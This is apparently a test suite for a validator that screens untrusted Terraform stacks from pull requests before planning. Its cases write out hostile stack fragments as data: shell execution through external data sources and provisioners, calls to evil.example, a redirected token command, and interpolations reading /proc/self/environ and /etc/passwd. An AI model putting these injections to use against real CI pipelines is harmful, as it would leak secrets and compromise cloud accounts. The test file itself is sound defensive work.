import fc from 'fast-check';
import { checkUntrustedStack } from '../../lib/delivery';
import { stackJson } from './support';

type Json = Record<string, unknown>;

const backend = { bucket: 'account-state', key: 'staging/terraform.tfstate', region: 'eu-west-1' };
const expected = { stack: 'staging', accountId: '111111111111', backend };
const harmless: Json = {
  terraform: {
    backend: { s3: { ...backend, encrypt: true, use_lockfile: true } },
    required_providers: { aws: { source: 'hashicorp/aws', version: '~> 6.25' } },
    required_version: '>= 1.10',
  },
  provider: { aws: [{ region: 'eu-west-1', allowed_account_ids: ['111111111111'] }] },
  data: { aws_caller_identity: { me: {} } },
  resource: { aws_vpc: { main: { cidr_block: '10.0.0.0/16' } } },
};
/** The harmless stack with something put into it: objects are merged, everything else replaces. */
const merge = (into: Json, from: Json): Json =>
  Object.fromEntries(
    [...new Set([...Object.keys(into), ...Object.keys(from)])].map((key) => {
      const [a, b] = [into[key], from[key]];
      const both = [a, b].every((value) => typeof value === 'object' && value !== null && !Array.isArray(value));
      return [key, both ? merge(a as Json, b as Json) : key in from ? b : a];
    }),
  );
const check = (change: Json) => () => checkUntrustedStack(merge(harmless, change), expected);

describe('a stack of a pull request', () => {
  it('is planned when it only describes resources', () => {
    expect(check({})).not.toThrow();
  });

  it.each(['staging', 'prod', 'staging-workloads', 'prod-workloads'])(
    'is planned as this repository makes it: %s',
    (id) => {
      const json = stackJson(id);
      const { s3 } = (json.terraform as { backend: { s3: typeof backend } }).backend;
      const place = { bucket: s3.bucket, key: s3.key, region: s3.region };
      const accountId = id.startsWith('staging') ? '111111111111' : '222222222222';
      expect(() => checkUntrustedStack(json, { stack: id, accountId, backend: place })).not.toThrow();
    },
  );

  it.each<readonly [string, Json, string]>([
    ['runs a program', { data: { external: { x: { program: ['sh'] } } } }, '`data.external`'],
    ['asks a server', { data: { http: { x: { url: 'https://evil.example' } } } }, '`data.http`'],
    [
      'reads a secret',
      { data: { aws_secretsmanager_secret_version: { x: {} } } },
      '`data.aws_secretsmanager_secret_version`',
    ],
    ['calls a function', { data: { aws_lambda_invocation: { x: {} } } }, '`data.aws_lambda_invocation`'],
    ['reads an object', { data: { aws_s3_object: { x: {} } } }, '`data.aws_s3_object`'],
    ['brings a module', { module: { x: { source: 'git::https://evil.example' } } }, '`module`'],
    ['reads an ephemeral secret', { ephemeral: { aws_secretsmanager_secret_version: { x: {} } } }, '`ephemeral`'],
    [
      'brings a provider',
      { terraform: { required_providers: { aws: { source: 'evil/aws' } } } },
      '`terraform.required_providers.aws`',
    ],
    [
      'brings another provider',
      { terraform: { required_providers: { null: { source: 'hashicorp/null' } } } },
      '`terraform.required_providers.null`',
    ],
    ['configures another provider', { provider: { http: [{}] } }, '`provider.http`'],
    [
      'sends requests elsewhere',
      {
        provider: {
          aws: [
            {
              region: 'eu-west-1',
              allowed_account_ids: ['111111111111'],
              endpoints: [{ sts: 'https://evil.example' }],
            },
          ],
        },
      },
      '`provider.aws.endpoints`',
    ],
    [
      'takes another role',
      { provider: { aws: [{ allowed_account_ids: ['111111111111'], assume_role: [{ role_arn: 'x' }] }] } },
      '`provider.aws.assume_role`',
    ],
    [
      'goes to another account',
      { provider: { aws: [{ allowed_account_ids: ['999999999999'] }] } },
      '`provider.aws.allowed_account_ids`',
    ],
    ['leaves the account open', { provider: { aws: [{ region: 'eu-west-1' }] } }, '`provider.aws.allowed_account_ids`'],
    [
      'runs another command for a token',
      { provider: { kubernetes: [{ host: 'x', exec: [{ command: 'sh', args: ['-c', 'env'] }] }] } },
      '`provider.kubernetes.exec`',
    ],
    [
      'hides a command behind the token’s',
      {
        provider: {
          kubernetes: [
            {
              exec: [
                {
                  command: 'aws',
                  args: ['eks', 'get-token', '--cluster-name', 'x', '--endpoint-url', 'https://evil.example'],
                },
              ],
            },
          ],
        },
      },
      '`provider.kubernetes.exec`',
    ],
    [
      'runs a provisioner',
      { resource: { aws_vpc: { main: { provisioner: [{ 'local-exec': { command: 'env' } }] } } } },
      '`resource.aws_vpc.main.provisioner`',
    ],
    [
      'makes something that is no resource of AWS',
      { resource: { null_resource: { x: {} } } },
      '`resource.null_resource`',
    ],
    [
      'reads the state of another environment',
      { terraform: { backend: { s3: { key: 'prod/terraform.tfstate' } } } },
      '`terraform.backend.s3.key`',
    ],
    [
      'keeps its state elsewhere',
      { terraform: { backend: { s3: { bucket: 'evil' } } } },
      '`terraform.backend.s3.bucket`',
    ],
    [
      'gives the backend a role',
      { terraform: { backend: { s3: { role_arn: 'x' } } } },
      '`terraform.backend.s3.role_arn`',
    ],
    [
      'takes the lock away',
      { terraform: { backend: { s3: { use_lockfile: false } } } },
      '`terraform.backend.s3.use_lockfile`',
    ],
    [
      'uses another backend',
      { terraform: { backend: { http: { address: 'https://evil.example' } } } },
      '`terraform.backend`',
    ],
    ['runs in a cloud', { terraform: { cloud: { organization: 'evil' } } }, '`terraform.cloud`'],
    [
      'reads the environment',
      { resource: { aws_vpc: { main: { cidr_block: '${file("/proc/self/environ")}' } } } },
      '`resource.aws_vpc.main.cidr_block`',
    ],
    [
      'hides a function behind a comment',
      { output: { x: { value: '${filebase64 /* ( */ ("/etc/passwd")}' } } },
      '`output.x.value`',
    ],
    ['reads by a template', { output: { x: { value: '%{ if fileexists("x") }a%{ endif }' } } }, '`output.x.value`'],
    ['calls a provider’s function', { output: { x: { value: '${provider::evil::read("x")}' } } }, '`output.x.value`'],
  ])('is refused where it %s', (_, change, place) => {
    expect(check(change)).toThrow(`staging: ${place} must be`);
  });

  it('is refused with everything that is wrong at once', () => {
    expect(check({ module: { x: {} }, data: { http: { x: {} } } })).toThrow(/`module`.*\n.*`data\.http`/);
  });

  it('is never planned when it is no stack at all', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (json) => {
        expect(() => checkUntrustedStack(json, expected)).toThrow(/^staging: /);
      }),
      { numRuns: 200 },
    );
  });

  it('lets text speak of files', () => {
    expect(check({ output: { x: { value: 'the file (old) of the VPC' } } })).not.toThrow();
  });
});
